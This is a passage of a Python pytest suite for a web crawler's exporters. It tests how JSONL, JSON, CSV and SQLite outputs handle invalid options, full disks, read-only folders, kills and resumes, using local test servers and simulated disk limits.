            "exporters[0].indent: unknown key; exporter 'jsonl' takes no options",
        ),
        (
            "json",
            "fields: [url]",
            "exporters[0].fields: unknown key; exporter 'json' takes no options",
        ),
        (
            "csv",
            "delimiter: ';;'",
            "exporters[0].delimiter: must be one character other than a "
            "quote or a line break, got ';;'",
        ),
        ("csv", "fields: []", "exporters[0].fields: must name at least one column"),
        ("csv", "fields: url", "exporters[0].fields: expected a list"),
        (
            "sqlite",
            "if_exists: merge",
            "exporters[0].if_exists: must be one of 'replace', 'append'",
        ),
        (
            "sqlite",
            "table: sqlite_master",
            "exporters[0].table: 'sqlite_master' cannot name a table",
        ),
        ("sqlite", "table: ''", "exporters[0].table: a table needs a name"),
        (
            "sqlite",
            "table: FW_renamed_columns",
            "exporters[0].table: 'FW_renamed_columns' cannot name a table: fw notes",
        ),
        ("sqlite", "tabel: x", "exporters[0].tabel: unknown key (did you mean 'table'?)"),
    ],
)
def test_invalid_exporter_options_point_at_their_line(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], fmt: str, option: str, message: str
) -> None:
    (tmp_path / "pages.py").write_text(SPIDER, encoding="utf-8")
    project = write_project(
        tmp_path,
        f"""
        spider: pages
        start_urls: [http://127.0.0.1:9/]
        plugins: [./pages.py]
        exporters:
          - format: {fmt}
            path: out/x
            {option}
        """,
    )
    assert main(["run", str(project)]) == 2
    error = capsys.readouterr().err
    assert error.startswith(f"Error: {project}:7: {message}"), error
    assert error.count("\n") == 1
    assert not (tmp_path / "out").exists()


# ---------------------------------------------------------------------------------------------
# Exporters that cannot write abort the crawl: exit 1, one line naming exporter and path
# ---------------------------------------------------------------------------------------------


def _one_error_line(stderr: str) -> str:
    errors = [line for line in stderr.splitlines() if line.startswith("Error:")]
    assert len(errors) == 1, stderr
    assert "Traceback" not in stderr
    return errors[0]


@pytest.mark.parametrize(
    ("output", "fmt"),
    [("out.jsonl", "jsonl"), ("out.json", "json"), ("out.csv", "csv"), ("out.db", "sqlite")],
)
async def test_output_that_is_a_directory_is_refused_before_the_crawl(
    tmp_path: Path, serve: Serve, output: str, fmt: str
) -> None:
    base = await serve(small_site(2))
    (tmp_path / output).mkdir()
    done = await run_fw("run", str(pages_project(tmp_path, base)), "-o", output, cwd=tmp_path)
    assert done.returncode == 2
    error = _one_error_line(done.stderr)
    assert error == f"Error: -o: {tmp_path / output}: is a folder; give the export a file in it"


@pytest.mark.parametrize("fmt", ["jsonl", "sqlite"])
async def test_output_under_a_file_aborts(tmp_path: Path, serve: Serve, fmt: str) -> None:
    base = await serve(small_site(2))
    (tmp_path / "file").write_text("not a folder")
    output = tmp_path / f"file/out.{fmt}"
    done = await run_fw("run", str(pages_project(tmp_path, base)), "-o", str(output), cwd=tmp_path)
    assert done.returncode == 1
    assert _one_error_line(done.stderr) == (
        f"Error: exporter {fmt} cannot open {output}: Not a directory"
    )


@pytest.mark.skipif(
    sys.platform == "win32" or os.geteuid() == 0,
    reason="needs file permissions that apply (not root)",
)
@pytest.mark.parametrize(("output", "fmt"), [("out.csv", "csv"), ("out.db", "sqlite")])
async def test_output_in_a_read_only_folder_aborts(
    tmp_path: Path, serve: Serve, output: str, fmt: str
) -> None:
    base = await serve(small_site(2))
    locked = tmp_path / "locked"
    locked.mkdir()
    locked.chmod(0o500)
    try:
        done = await run_fw(
            "run", str(pages_project(tmp_path, base)), "-o", f"locked/{output}", cwd=tmp_path
        )
    finally:
        locked.chmod(0o700)
    assert done.returncode == 1
    assert _one_error_line(done.stderr) == (
        f"Error: exporter {fmt} cannot open {locked / output}: Permission denied"
    )


@pytest.mark.skipif(not Path("/dev/full").exists(), reason="needs /dev/full")
async def test_output_that_fails_mid_crawl_aborts(tmp_path: Path, serve: Serve) -> None:
    base = await serve(small_site(3))
    # Every write to /dev/full fails as on a full disk; opening it works.
    project = pages_project(tmp_path, base, "exporters: [{format: jsonl, path: /dev/full}]")
    done = await run_fw("run", str(project), "-o", "ok.jsonl", cwd=tmp_path)
    assert done.returncode == 1
    assert _one_error_line(done.stderr) == (
        "Error: export /dev/full: No space left on device (0 items written)"
    )
    assert len(read_jsonl(tmp_path / "ok.jsonl")) == 0  # the crawl stopped at the first item


@pytest.mark.parametrize(
    ("output", "gone"),
    [
        ("items.jsonl", "removed"),
        ("items.json", "removed"),
        ("items.csv", "removed"),
        ("items.db", "removed"),
        ("items.jsonl", "moved"),
        ("items.db", "moved"),  # its rows went on into a WAL file left beside the old name
    ],
)
async def test_an_export_removed_or_moved_mid_crawl_stops_it_instead_of_reporting_success(
    tmp_path: Path, serve: Serve, output: str, gone: str
) -> None:
    export = tmp_path / "out" / output
    pages = 8

    async def handler(request: web.Request) -> web.Response:
        n = int(request.match_info["n"] or 0)
        if n == 3:  # items were written before, and more come after
            if gone == "removed":
                shutil.rmtree(export.parent)
            else:
                export.rename(export.with_name("moved" + export.suffix))
        return page(n, *(f"/{k}" for k in range(1, pages))) if n == 0 else page(n)

    app = web.Application()
    app.router.add_get("/{n:[0-9]*}", handler)
    project = pages_project(tmp_path, await serve(app))
    serially = ["-s", "concurrency.total=1", "-s", "concurrency.per_domain=1"]
    done = await run_fw("run", str(project), "-o", str(export), *serially)
    assert done.returncode == 1, done.stderr
    error = _one_error_line(done.stderr)
    assert error == (
        f"Error: export {export}: the file was removed or replaced while the crawl wrote "
        "it: the items written to it are not at this path"
    )


async def test_o_through_a_symlink_picks_the_exporter_by_the_name_given(
    tmp_path: Path, serve: Serve
) -> None:
    base = await serve(small_site(2))
    (tmp_path / "target").touch()
    (tmp_path / "link.jsonl").symlink_to(tmp_path / "target")
    done = await run_fw("run", str(pages_project(tmp_path, base)), "-o", "link.jsonl", cwd=tmp_path)
    assert done.returncode == 0, done.stderr
    assert len(read_jsonl(tmp_path / "target")) == 2


# ---------------------------------------------------------------------------------------------
# A full disk: the export is cut back to its last whole record, and fw says how many it holds
# ---------------------------------------------------------------------------------------------

#: The bytes a small disk holds: a few dozen items fit, then one is cut part-way.
DISK_SIZE = 128 * 1024


@dataclass
class SmallDisk:
    """A folder where writes fail part-way once ``DISK_SIZE`` bytes are reached."""

    folder: Path
    #: What the system says when a write fails there.
    reason: str
    #: Run in fw's process before it starts; None if the folder itself is small.
    limit: Callable[[], None] | None = None


def limit_files_to(size: int) -> Callable[[], None]:
    """Return what limits the files a process writes to ``size`` bytes."""

    def limit() -> None:
        # Python ignores SIGXFSZ: a write past the limit writes what fits, then fails (EFBIG).
        resource.setrlimit(resource.RLIMIT_FSIZE, (size, size))

    return limit


@pytest.fixture(params=["tmpfs", "file_size_limit"])
def small_disk(request: pytest.FixtureRequest, tmp_path: Path) -> Iterator[SmallDisk]:
    """A real small filesystem (needs root to mount it) or a real limit on file sizes."""
    folder = tmp_path / "disk"
    folder.mkdir()
    if request.param == "file_size_limit":
        yield SmallDisk(folder, "File too large", limit_files_to(DISK_SIZE))
        return
    mount = shutil.which("mount")
    command = [str(mount), "-t", "tmpfs", "-o", f"size={DISK_SIZE}", "tmpfs", str(folder)]
    if mount is None or subprocess.run(command, capture_output=True, check=False).returncode:
        pytest.skip("cannot mount a tmpfs here (not root?)")
    try:
        yield SmallDisk(folder, "No space left on device")
    finally:
        subprocess.run(["umount", str(folder)], check=True)


async def run_fw_on(
    disk: SmallDisk, *args: str, cwd: Path, stdout: BinaryIO | None = None
) -> Completed:
    """Run ``fw`` as ``run_fw`` does, within the small disk's limit; its standard output
    goes to ``stdout`` if given."""
    process = await asyncio.create_subprocess_exec(
        *fw_command(),
        *args,
        cwd=cwd,
        stdout=stdout or asyncio.subprocess.PIPE,
        stderr=asyncio.subprocess.PIPE,
        preexec_fn=disk.limit,
    )
    try:
        out, err = await asyncio.wait_for(process.communicate(), 60)
    except TimeoutError:
        process.kill()
        await process.wait()
        raise
    assert process.returncode is not None
    return Completed(process.returncode, (out or b"").decode(), err.decode())


def wordy_site(pages: int) -> web.Application:
    """``/`` links to ``/1`` .. ``/{pages - 1}``; each page is one item of about 1 KB."""

    async def handler(request: web.Request) -> web.Response:
        n = int(request.match_info["n"] or 0)
        links = "".join(f'<a href="/{k}">x</a>' for k in range(1, pages)) if n == 0 else ""
        title = f'第{n}页, "引号"' + "字" * 300
        return web.Response(
            text=f"<html><head><title>{title}</title></head><body>{links}</body></html>",
            content_type="text/html",
        )

    app = web.Application()
    app.router.add_get("/{n:[0-9]*}", handler)
    return app


def whole_records(path: Path, fmt: str) -> list[Any]:
    """Read the records of an export that stopped part-way; fail on any torn one."""
    if fmt == "jsonl":
        return read_jsonl(path)
    if fmt == "json":  # unfinished if even the closing bracket did not fit
        return read_json_array(path, finished=path.read_bytes().rstrip().endswith(b"]"))
    if fmt == "sqlite":
        return read_sqlite(path)
    header, *rows = read_csv(path)
    assert all(len(row) == len(header) for row in rows), rows[-1:]
    return rows


def items_written(count: int) -> str:
    return f"({count} item written)" if count == 1 else f"({count} items written)"


@pytest.mark.parametrize("fmt", ["jsonl", "json", "csv", "sqlite"])
async def test_a_full_disk_leaves_whole_records_and_says_how_many(
    tmp_path: Path, serve: Serve, small_disk: SmallDisk, fmt: str
) -> None:
    base = await serve(wordy_site(200))
    output = small_disk.folder / f"items.{fmt}"
    project = pages_project(tmp_path, base)
    done = await run_fw_on(small_disk, "run", str(project), "-o", str(output), cwd=tmp_path)
    assert done.returncode == 1, done.stderr
    held = whole_records(output, fmt)
    assert len(held) > 1  # the disk filled up part-way through the crawl
    assert _one_error_line(done.stderr) == (
        f"Error: export {output}: {small_disk.reason} {items_written(len(held))}"
    )
    assert f", {len(held)} items exported" in done.stderr  # the summary agrees with the file
    # No temporary file; SQLite keeps its journal until it has the room to fold it in.
    journal = {f"{output.name}-wal", f"{output.name}-shm"}
    assert {p.name for p in small_disk.folder.iterdir()} - journal == {output.name}


async def test_o_dash_into_a_file_on_a_full_disk_leaves_whole_lines_and_says_how_many(
    tmp_path: Path, serve: Serve, small_disk: SmallDisk
) -> None:
    base = await serve(wordy_site(200))
    output = small_disk.folder / "items.jsonl"
    project = pages_project(tmp_path, base)
    with output.open("wb") as stdout:  # fw run -o - > items.jsonl
        done = await run_fw_on(
            small_disk, "run", str(project), "-o", "-", cwd=tmp_path, stdout=stdout
        )
    assert done.returncode == 1, done.stderr
    held = read_jsonl(output)  # the line the disk cut short is cut off
    assert len(held) > 1
    assert _one_error_line(done.stderr) == (
        f"Error: export -: {small_disk.reason} {items_written(len(held))}"
    )


# ---------------------------------------------------------------------------------------------
# CSV: any cell size and columns first seen late, in any outcome
# ---------------------------------------------------------------------------------------------

CELLS = """
from framework import Spider, hookimpl

class Cells(Spider):
    name = "cells"

    async def parse(self, response):
        yield {"url": response.url, **{p.attrib["class"]: p.css("::text").get()
                                       for p in response.css("p")}}
        for href in response.css("a::attr(href)").getall():
            yield response.follow(href)

@hookimpl
def register_spiders(register):
    register(Cells)
"""


def cells_project(directory: Path, base: str, extra: str = "") -> Path:
    """A project whose items are each page's URL and its ``<p class=KEY>VALUE</p>``."""
    directory.mkdir(parents=True, exist_ok=True)
    (directory / "cells.py").write_text(CELLS, encoding="utf-8")
    return write_project(
        directory,
        f"""
        spider: cells
        start_urls: [{base}/0]
        plugins: [./cells.py]
        {extra}
        """,
    )


def chain_site(
    items: list[dict[str, str]], reached: Callable[[int], Any] | None = None
) -> web.Application:
    """Page ``/n`` holds ``items[n]`` and links to the next; ``reached(n)`` is awaited first."""

    async def handler(request: web.Request) -> web.Response:
        n = int(request.match_info["n"])
        if reached is not None:
            await reached(n)
        cells = "".join(f'<p class="{k}">{html.escape(v)}</p>' for k, v in items[n].items())
        link = f'<a href="/{n + 1}">next</a>' if n + 1 < len(items) else ""
        return web.Response(
            text=f"<html><body>{cells}{link}</body></html>", content_type="text/html"
        )

    app = web.Application()
    app.router.add_get("/{n:[0-9]+}", handler)
    return app


#: Over 1 MB, far past the 128 KB the csv module reads by default, with quotes and commas.
HUGE = 'a "quoted", cell\n' * 70_000
LATE_ITEMS = [{"n": "0"}, {"n": "1", "huge": HUGE}, {"n": "2"}, {"n": "3", "late": "at last"}]


async def test_csv_with_a_huge_cell_and_a_column_first_seen_late_is_valid(
    tmp_path: Path, serve: Serve
) -> None:
    base = await serve(chain_site(LATE_ITEMS))
    project = cells_project(tmp_path, base)
    done = await run_fw("run", str(project), "-o", "out/items.csv", cwd=tmp_path)
    assert done.returncode == 0, done.stderr
    assert read_csv(tmp_path / "out/items.csv") == [
        ["url", "n", "huge", "late"],
        [f"{base}/0", "0", "", ""],
        [f"{base}/1", "1", HUGE, ""],
        [f"{base}/2", "2", "", ""],
        [f"{base}/3", "3", "", "at last"],
    ]
    assert [p.name for p in (tmp_path / "out").iterdir()] == ["items.csv"]


async def test_a_csv_header_that_cannot_be_completed_is_completed_by_the_next_run_appending(
    tmp_path: Path, serve: Serve
) -> None:
    base = await serve(chain_site(LATE_ITEMS))
    project = cells_project(tmp_path, base)
    output = tmp_path / "out/items.csv"
    done = await run_fw("run", str(project), "-o", str(output), cwd=tmp_path)
    assert done.returncode == 0, done.stderr
    # Again, with room for the rows but not for the copy with the complete header.
    disk = SmallDisk(output.parent, "File too large", limit_files_to(output.stat().st_size - 1))
    done = await run_fw_on(disk, "run", str(project), "-o", str(output), cwd=tmp_path)
    assert done.returncode == 1, done.stderr
    assert _one_error_line(done.stderr) == (
        f"Error: export {output}: cannot close it: File too large (4 items written)"
    )
    header, *rows = read_csv(output)
    assert header == ["url", "n"]  # the columns seen later could not be added to it
    assert [row[:2] for row in rows] == [[f"{base}/{n}", str(n)] for n in range(4)]
    assert rows[1][2] == HUGE
    # Beside it, the copy's header alone names them, for the next run that appends to it
    # (resumed or retried) to complete the header with.
    whole = ["url", "n", "huge", "late"]
    assert read_csv(output.parent / ".items.csv.fw-header") == [whole]
    export(CsvExporter(str(output), append=True), [])
    assert read_csv(output) == [whole, *(row + [""] * (4 - len(row)) for row in rows)]
    assert [p.name for p in output.parent.iterdir()] == ["items.csv"]


async def test_a_finished_crawl_run_again_completes_the_header_its_last_run_could_not(
    tmp_path: Path, serve: Serve
) -> None:
    # Its last page was acknowledged, so the rerun found the crawl finished and, without
    # opening its exports, said so with exit 0 over the short header.
    base = await serve(chain_site(LATE_ITEMS))
    project = cells_project(tmp_path, base)
    output = tmp_path / "out/items.csv"
    state = ("-s", 'frontier="sqlite:///state.db"')
    done = await run_fw("run", str(project), "-o", str(output), *state, cwd=tmp_path)
    assert done.returncode == 0, done.stderr
    disk = SmallDisk(output.parent, "File too large", limit_files_to(output.stat().st_size - 1))
    done = await run_fw_on(
        disk, "run", str(project), "-o", str(output), *state, "--fresh", cwd=tmp_path
    )
    assert done.returncode == 1, done.stderr
    assert read_csv(output)[0] == ["url", "n"]
    again = await run_fw("run", str(project), "-o", str(output), *state, cwd=tmp_path)
    assert again.returncode == 0, again.stderr
    assert "this crawl is already finished" in again.stderr
    header, *rows = read_csv(output)
    assert header == ["url", "n", "huge", "late"] and len(rows) == 4
    assert [p.name for p in output.parent.iterdir()] == ["items.csv"]


def test_a_csv_is_unfinished_while_its_header_copy_is_beside_it_and_it_is_still_there(
    tmp_path: Path,
) -> None:
    csv_path, copy = tmp_path / "items.csv", tmp_path / ".items.csv.fw-header"
    exporter = CsvExporter(str(csv_path))
    copy.write_text("url,n,late\r\n")
    assert not exporter.unfinished()  # moved away: a finished crawl must not make it anew
    csv_path.write_text("url,n\r\na,1\r\n")
    assert exporter.unfinished()
    copy.unlink()
    assert not exporter.unfinished()


#: The cells spider, and a plugin that fills the disk under the export as the crawl ends.
FILLS_THE_DISK = """
from pathlib import Path
from framework import hookimpl

@hookimpl
def crawl_finished():
    with Path({folder!r}, "ballast").open("wb") as ballast:
        try:
            while True:
                ballast.write(bytes(65536))
        except OSError:  # no space left: what the exporters' close() meets next
            pass
"""


async def test_a_csv_header_that_a_full_disk_stops_completing_keeps_the_old_one_and_every_row(
    tmp_path: Path, serve: Serve
) -> None:
    items = [{"n": str(n), **({"late": "at last"} if n >= 3 else {})} for n in range(6)]
    base = await serve(chain_site(items))
    with mounted_disk(tmp_path / "disk", "64k") as disk:
        (tmp_path / "fill.py").write_text(FILLS_THE_DISK.format(folder=str(disk)))
        project = cells_project(tmp_path, base)
        text = project.read_text().replace("[./cells.py]", "[./cells.py, ./fill.py]")
        project.write_text(text)
        output = disk / "items.csv"
        done = await run_fw("run", str(project), "-o", str(output), cwd=tmp_path)
        assert done.returncode == 1, done.stderr
        assert _one_error_line(done.stderr) == (
            f"Error: export {output}: cannot close it: No space left on device (6 items written)"
        )
        # The late column, noted as it came, is left for the next run to name.
        assert sorted(p.name for p in disk.iterdir()) == [
            ".items.csv.fw-columns",
            "ballast",
            "items.csv",
        ]
        assert (disk / ".items.csv.fw-columns").read_text().splitlines()[1:] == ['"late"']
        header, *rows = read_csv(output)
    assert header == ["url", "n"]  # as it was: the copy with the late column did not fit
    assert rows == [[f"{base}/{n}", str(n), *(["at last"] if n >= 3 else [])] for n in range(6)]


async def test_a_json_array_that_cannot_be_closed_keeps_every_element_and_says_how_many(
    tmp_path: Path, serve: Serve
) -> None:
    base = await serve(chain_site([{"n": str(n)} for n in range(4)]))
    project = cells_project(tmp_path, base)
    output = tmp_path / "out/items.json"
    assert (await run_fw("run", str(project), "-o", str(output), cwd=tmp_path)).returncode == 0
    # Again, with room for every element but not for the closing bracket.
    disk = SmallDisk(output.parent, "File too large", limit_files_to(output.stat().st_size - 1))
    done = await run_fw_on(disk, "run", str(project), "-o", str(output), cwd=tmp_path)
    assert done.returncode == 1, done.stderr
    assert _one_error_line(done.stderr) == (
        f"Error: export {output}: cannot close it: File too large (4 items written)"
    )
    assert read_json_array(output, finished=False) == [
        {"url": f"{base}/{n}", "n": str(n)} for n in range(4)
    ]


#: A column name far over the 128 KB the csv module reads in one cell by default.
HUGE_KEY = "k" * 200_000


def test_csv_appends_under_a_header_with_a_huge_cell_and_leaves_the_csv_module_alone(
    tmp_path: Path,
) -> None:
    limit = csv.field_size_limit()
    path = str(tmp_path / "items.csv")
    export(CsvExporter(path), [{HUGE_KEY: 1, "n": 1}])
    export(CsvExporter(path, append=True), [{"n": 2}, {"n": 3, "late": "x"}])
    assert csv.field_size_limit() == limit
    assert read_csv(Path(path)) == [
        [HUGE_KEY, "n", "late"],
        ["1", "1", ""],
        ["", "2", ""],
        ["", "3", "x"],
    ]


async def test_retry_failed_appends_to_a_csv_whose_header_has_a_huge_cell(
    tmp_path: Path, serve: Serve
) -> None:
    broken = True

    async def handler(request: web.Request) -> web.Response:
        if request.path == "/down" and broken:
            return web.Response(status=503)
        cells = f'<p class="{HUGE_KEY}">v</p><a href="/down">x</a>' if request.path == "/0" else ""
        return web.Response(text=f"<html><body>{cells}</body></html>", content_type="text/html")

    app = web.Application()
    app.router.add_get("/{tail:.*}", handler)
    base = await serve(app)
    project = cells_project(tmp_path, base, "retries: 0")
    first = await run_fw("run", str(project), "-o", "items.csv", cwd=tmp_path)
    assert first.returncode == 0, first.stderr
    broken = False
    again = await run_fw("run", str(project), "-o", "items.csv", "--retry-failed", cwd=tmp_path)
    assert again.returncode == 0, again.stderr
    assert read_csv(tmp_path / "items.csv") == [
        ["url", HUGE_KEY],
        [f"{base}/0", "v"],
        [f"{base}/down", ""],
    ]


async def test_a_crawl_resumed_after_its_csv_header_was_completed_exports_each_item_once(
    tmp_path: Path, serve: Serve
) -> None:
    reached_six, interrupted = asyncio.Event(), asyncio.Event()
    items = [{"n": str(n), **({"late": "yes"} if n >= 2 else {})} for n in range(12)]

    async def reached(n: int) -> None:
        if n == 6:  # fw stops with this page in flight: it is exported, then the header
            reached_six.set()
            await interrupted.wait()

    base = await serve(chain_site(items, reached))
    project = cells_project(tmp_path, base, "frontier: sqlite:///state.db")
    output = str(tmp_path / "items.csv")
    process = await asyncio.create_subprocess_exec(
        *fw_command(),
        "run",
        str(project),
        "-o",
        output,
        stdout=asyncio.subprocess.DEVNULL,
        stderr=asyncio.subprocess.PIPE,
    )
    async with asyncio.timeout(30):
        await reached_six.wait()
        process.send_signal(signal.SIGINT)
        interrupted.set()
        _, err = await process.communicate()
    assert process.returncode == 130, err.decode()
    assert read_csv(Path(output))[0] == ["url", "n", "late"]  # completed as fw stopped

    done = await run_fw("run", str(project), "-o", output, cwd=tmp_path)
    assert done.returncode == 0, done.stderr
    assert read_csv(Path(output)) == [
        ["url", "n", "late"],
        *([f"{base}/{n}", str(n), "yes" if n >= 2 else ""] for n in range(12)),
    ]


def test_csv_rewinds_to_a_checkpoint_taken_before_its_header_was_completed(
    tmp_path: Path,
) -> None:
    path = str(tmp_path / "items.csv")
    first = CsvExporter(path)
    first.open()
    first.write({"a": 1})
    first.write({"a": 2, "b": "x"})
    checkpoint = first.checkpoint()
    first.write({"a": 3, "c": "cut"})
    first.close()  # the header gets b and c, every row a cell for each
    again = CsvExporter(path, append=True)
    again.open()
    again.rewind(checkpoint)
    again.write({"a": 4, "b": "y"})
    again.close()
    assert read_csv(Path(path)) == [["a", "b", "c"], ["1", "", ""], ["2", "x", ""], ["4", "y", ""]]


def test_a_copy_left_by_a_run_killed_while_completing_the_header_is_removed(
    tmp_path: Path,
) -> None:
    (tmp_path / ".items.csv.fw-header").write_bytes(b"a,b\r\n1,")  # cut short by the kill
    export(CsvExporter(str(tmp_path / "items.csv")), [{"a": 1}])
    assert [p.name for p in tmp_path.iterdir()] == ["items.csv"]


KILLED_CSV = """
import json, os, sys
from fwcrawl_plugins.exporters import CsvExporter

exporter = CsvExporter(sys.argv[1])
exporter.open()
for item in ({"a": 1}, {"a": 2, "b": "x"}):
    exporter.write(item)
    print(json.dumps(exporter.checkpoint()))  # acknowledged
os._exit(0)  # killed: close() never runs, the header lacks b
"""


def test_csv_resumed_after_a_kill_keeps_the_columns_of_its_checkpoint(tmp_path: Path) -> None:
    path = tmp_path / "items.csv"
    killed = subprocess.run(
        [sys.executable, "-c", KILLED_CSV, str(path)], capture_output=True, check=True, text=True
    )
    again = CsvExporter(str(path), append=True)
    again.open()
    again.rewind(json.loads(killed.stdout.splitlines()[-1]))
    again.write({"c": "z", "b": "y"})
    again.close()
    assert read_csv(path) == [["a", "b", "c"], ["1", "", ""], ["2", "x", ""], ["", "y", "z"]]


def test_csv_resumed_with_more_fields_adds_their_columns(tmp_path: Path) -> None:
    path = str(tmp_path / "items.csv")
    first = CsvExporter(path, CsvOptions(fields=("page", "i")))
    first.open()
    first.write({"page": 1, "i": 0, "key": "1-0"})
    checkpoint = first.checkpoint()
    first.close()
    again = CsvExporter(path, CsvOptions(fields=("page", "i", "key")), append=True)
    again.open()
    again.rewind(checkpoint)
    again.write({"page": 2, "i": 0, "key": "2-0"})
    again.close()
    assert read_csv(Path(path)) == [["page", "i", "key"], ["1", "0", ""], ["2", "0", "2-0"]]


def test_csv_resumed_with_other_fields_keeps_its_rows_columns_and_says_so(
    tmp_path: Path, caplog: pytest.LogCaptureFixture
) -> None:
    path = str(tmp_path / "items.csv")
    export(CsvExporter(path, CsvOptions(fields=("page", "i"))), [{"page": 1, "i": 0}])
    item = {"page": 2, "i": 1, "key": "2-1"}
    export(CsvExporter(path, CsvOptions(fields=("key", "page")), append=True), [item])
    assert read_csv(Path(path)) == [["page", "i", "key"], ["1", "0", ""], ["2", "1", "2-1"]]
    assert (
        f"export {path}: its rows have the columns page, i, not fields (key, page): "
        "it goes on with page, i, key"
    ) in caplog.text


def test_csv_appending_completes_the_header_a_run_killed_while_copying_left_short(
    tmp_path: Path,
) -> None:
    path = tmp_path / "items.csv"
    subprocess.run([sys.executable, "-c", KILLED_CSV, str(path)], check=True, capture_output=True)
    (tmp_path / ".items.csv.fw-header").write_bytes(b"a,b\r\n1,\r\n2,")  # killed while copying
    # As a finished crawl run again would: no checkpoint, and no item with b.
    export(CsvExporter(str(path), append=True), [{"a": 3}])
    assert read_csv(path) == [["a", "b"], ["1", ""], ["2", "x"], ["3", ""]]
    assert [p.name for p in tmp_path.iterdir()] == ["items.csv"]


def test_a_copy_whose_columns_a_resume_cuts_back_off_is_removed(tmp_path: Path) -> None:
    path = tmp_path / "items.csv"
    killed = subprocess.run(
        [sys.executable, "-c", KILLED_CSV, str(path)], capture_output=True, check=True, text=True
    )
    (tmp_path / ".items.csv.fw-header").write_bytes(b"a,b\r\n1,\r\n")  # killed while copying
    again = CsvExporter(str(path), append=True)
    again.open()
    again.rewind(json.loads(killed.stdout.splitlines()[0]))  # before the row with b
    again.close()
    assert read_csv(path) == [["a"], ["1"]]
    assert [p.name for p in tmp_path.iterdir()] == ["items.csv"]


def test_late_columns_noted_as_they_came_name_the_header_after_a_kill(tmp_path: Path) -> None:
    path = tmp_path / "items.csv"
    subprocess.run([sys.executable, "-c", KILLED_CSV, str(path)], check=True, capture_output=True)
    notes = (tmp_path / ".items.csv.fw-columns").read_text().splitlines()
    found = path.stat()
    assert json.loads(notes[0]) == {"device": found.st_dev, "inode": found.st_ino}
    assert notes[1:] == ['"b"']  # appended, as it came
    # As a finished crawl run again would: no checkpoint says what the rows hold.
    export(CsvExporter(str(path), append=True), [{"a": 3, "c": "y"}])
    assert read_csv(path) == [["a", "b", "c"], ["1", "", ""], ["2", "x", ""], ["3", "", "y"]]
    assert [p.name for p in tmp_path.iterdir()] == ["items.csv"]


def test_notes_of_late_columns_never_head_another_file(tmp_path: Path) -> None:
    path = tmp_path / "items.csv"
    subprocess.run([sys.executable, "-c", KILLED_CSV, str(path)], check=True, capture_output=True)
    mine = tmp_path / "mine.csv"
    mine.write_bytes(b"a\r\n7\r\n")
    mine.replace(path)  # the user's own file there now
    assert not CsvExporter(str(path)).unfinished()
    export(CsvExporter(str(path), append=True), [])
    assert path.read_bytes() == b"a\r\n7\r\n"  # no column b: those notes were another's
    assert [p.name for p in tmp_path.iterdir()] == ["items.csv"]


CUT_BACK_CSV = """
import os, sys
from fwcrawl_plugins.exporters import CsvExporter

exporter = CsvExporter(sys.argv[1])
exporter.open()
exporter.write({"a": 1})
mark = exporter.checkpoint()
exporter.write({"a": 2, "lost": "x"})
exporter.rewind(mark)  # a lost lease's page cut back out, its column with it
exporter.write({"a": 3, "kept": "y"})  # in the rows where "lost" was
os._exit(0)  # killed: close() never runs
"""


def test_a_rewind_notes_the_late_columns_anew_in_the_order_of_the_rows(tmp_path: Path) -> None:
    """The notes must name the rows' columns in their order, or a rerun heads cells
    wrongly: every value under another page's column, in a well-formed file."""
    path = tmp_path / "items.csv"
    subprocess.run([sys.executable, "-c", CUT_BACK_CSV, str(path)], check=True, capture_output=True)
    export(CsvExporter(str(path), append=True), [])
    assert read_csv(path) == [["a", "kept"], ["1", ""], ["3", "y"]]


def test_late_columns_that_cannot_be_noted_are_said_once(
    tmp_path: Path, caplog: pytest.LogCaptureFixture
) -> None:
    (tmp_path / ".items.csv.fw-columns").mkdir()  # in the way: no notes can be written
    items = [{"a": 0}, *({"a": n, f"late{n}": n} for n in range(1, 4))]
    path = export(CsvExporter(str(tmp_path / "items.csv")), items)
    assert read_csv(path)[0] == ["a", "late1", "late2", "late3"]  # completed all the same
    assert caplog.text.count("cannot note its late columns beside it") == 1


@pytest.mark.parametrize(
    "exporter", [JsonLinesExporter, JsonArrayExporter, CsvExporter, SqliteExporter]
)
def test_a_rewind_mid_crawl_cuts_the_items_written_since(
    tmp_path: Path, exporter: type[Exporter]
) -> None:
    opened = exporter(str(tmp_path / f"items{exporter.extensions[0]}"))
    opened.open()
    opened.write(STREAMED[0])
    checkpoint = opened.checkpoint()
    opened.write(STREAMED[1])
    opened.rewind(checkpoint)  # its page's lease was lost: another worker exports it
    opened.write(STREAMED[2])
    try:
        assert _read_unfinished(opened) == [STREAMED[0], STREAMED[2]]
        assert opened.count() == 2
    finally:
        opened.close()


@pytest.mark.parametrize("exporter", EXPORTERS)
def test_an_export_moved_away_before_a_resume_starts_valid_and_says_so(
    tmp_path: Path, exporter: type[Exporter], caplog: pytest.LogCaptureFixture
) -> None:
    path = tmp_path / f"items{exporter.extensions[0]}"
    first = exporter(str(path))
    first.open()
    first.write({"n": "1"})
    checkpoint = first.checkpoint()
    first.close()
    path.rename(tmp_path / f"moved{exporter.extensions[0]}")
    again = exporter(str(path), append=True)
    again.open()
    again.rewind(checkpoint)
    again.write({"n": "2"})
    again.close()
    assert written(path) == [{"n": "2"}]
    assert f"{path} is shorter than when its last items were acknowledged" in caplog.text


@pytest.mark.parametrize("exporter", EXPORTERS[:3])
def test_an_export_cut_short_before_a_resume_is_cut_back_to_whole_records(
    tmp_path: Path, exporter: type[Exporter], caplog: pytest.LogCaptureFixture
) -> None:
    items = [{"n": str(n), "text": f"line {n}\nof a cell, ' quoted'"} for n in range(3)]
    whole = exporter(str(tmp_path / f"whole{exporter.extensions[0]}"))
    size = len(export(whole, items).read_bytes())
    for cut in range(size):  # a lost tail: anywhere, inside a record too
        path = tmp_path / f"items{exporter.extensions[0]}"
        first = exporter(str(path))
        first.open()
        for item in items:
            first.write(item)
        checkpoint = first.checkpoint()
        first.close()
        with path.open("r+b") as file:
            file.truncate(cut)
        again = exporter(str(path), append=True)
        again.open()
        again.rewind(checkpoint)
        again.write({"n": "new", "text": "x"})
        again.close()
        kept = written(path)  # valid, whatever was cut: the whole records before, then one
        assert kept[-1] == {"n": "new", "text": "x"}, (cut, path.read_bytes())
        assert kept[:-1] == items[: len(kept) - 1], cut
    assert f"{path} is shorter than when its last items were acknowledged" in caplog.text
    assert "its torn last record is cut off" in caplog.text


# ---------------------------------------------------------------------------------------------
# A crash (SIGKILL) leaves whole records behind
# ---------------------------------------------------------------------------------------------

WHOLE = 30


def _count(path: Path, fmt: str) -> int:
    """Count the records on disk while fw may still be writing them."""
    if not path.exists():
        return 0
    if fmt == "sqlite":
        try:
            return len(read_sqlite(path))
        except sqlite3.OperationalError:  # the table does not exist yet
            return 0
